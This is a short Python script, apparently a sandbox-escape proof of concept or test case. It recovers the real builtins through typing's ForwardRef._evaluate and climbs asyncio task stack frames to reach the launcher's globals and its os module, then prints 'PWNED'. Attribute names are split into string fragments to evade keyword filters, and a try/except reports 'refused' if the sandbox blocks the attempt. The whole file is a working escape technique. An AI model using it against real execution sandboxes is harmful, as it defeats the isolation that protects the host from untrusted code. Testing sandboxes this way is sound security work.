# frame: asyncio.Task.get_stack returns frames (read by asyncio's own code); f_back climbs to the launcher
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
async def main():
    fr = asyncio.current_task().get_stack()[0]
    while fr is not None:
        fg = ga(fr, "f_glob" + "als")
        if "install_policy" in fg:
            print(M, "launcher globals via get_stack:", fg["o" + "s"].getpid())
            return
        fr = ga(fr, "f_ba" + "ck")
try:
    asyncio.run(main())
except Exception as e:
    print("refused:", type(e).__name__, e)
